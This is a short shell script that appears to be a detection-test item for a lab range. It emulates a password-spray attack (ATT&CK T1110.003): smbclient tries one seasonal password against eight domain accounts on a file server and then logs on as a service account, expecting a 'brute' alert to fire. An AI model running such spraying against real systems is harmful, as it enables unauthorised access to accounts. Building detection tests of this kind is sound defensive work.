# SPDX-License-Identifier: Apache-2.0
# what: one password for each account, right for the last
# technique: T1110.003
# from: ws1
# to: fs1
# account: svc_backup
# outcome: success
# must: alert brute
. "$RANGE_HERE/item.sh"
for u in alice bob carol dave erin frank svc_sql svc_web; do
	says LOGON_FAILURE smbclient -L //fs1 -U "CORP\\$u%Winter2026" || exit 1
done
says ADMIN smbclient -L //fs1 -U "CORP\\svc_backup%$USER_PASSWORD"
